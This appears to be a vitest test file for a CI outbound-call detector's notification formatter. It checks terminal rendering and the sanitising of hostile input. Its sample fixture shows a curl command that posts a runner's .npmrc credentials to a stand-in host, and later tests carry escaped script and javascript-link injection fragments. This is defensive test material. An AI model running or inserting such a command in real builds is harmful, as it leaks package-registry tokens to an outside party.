import { describe, expect, it } from "vitest";
import {
  hostileNotification,
  sampleNotification,
  sparseNotification,
} from "../../src/conformance/index.js";
import { notificationText } from "../../src/index.js";

describe("notificationText", () => {
  it("writes a notification that can be read in a terminal", () => {
    expect(notificationText(sampleNotification())).toBe(`\
[high] New outbound call: collector.example:8443

build in acme/shop called collector.example:8443, which none of the 42 runs learned so far had called.

Endpoint   collector.example:8443
Address    203.0.113.9 (public), tcp
Job        acme/shop · .github/workflows/ci.yml · build
Run        7431885120, attempt 2
Time       2026-01-31 13:37:00 UTC
Step       Install dependencies
Command    curl -sS --data-binary @/home/runner/.npmrc https://collector.example:8443/u
Process    pid 4242, parent 4190, user runner
Called by  npm ci
Request    POST /u
Result     established
Commit     5f3c1d0b9a8e7f6d5c4b3a29180f7e6d5c4b3a29

- The job never called any host of collector.example before.
- None of the job's calls goes to port 8443.

Details: https://straycall.example/detections/01KGB7Z4M8Q6V2T9X3C5D1E0FA
Run: https://github.com/acme/shop/actions/runs/7431885120
`);
  });

  it("ends after the facts where there are no reasons and no links", () => {
    expect(notificationText(sparseNotification())).toMatch(/\nProcess {3}pid 4300\n$/);
  });

  it("lets hostile text neither begin a line nor steer a terminal", () => {
    const text = notificationText(hostileNotification());
    expect(text).not.toMatch(/(?!\n)\p{Cc}|\p{Bidi_Control}/u);
    const lines = text.split("\n").map((line) => line.split(/ {2}|: /, 1)[0]);
    expect(lines).not.toContain("Bcc");
    expect(lines).not.toContain("body");
  });

  it("shows only links to the web", () => {
    const text = notificationText(hostileNotification());
    expect(text).toContain("Details: https://straycall.example/detections/%22%3E%3Cscript%3E");
    expect(text).not.toContain("Run: javascript");
  });
});
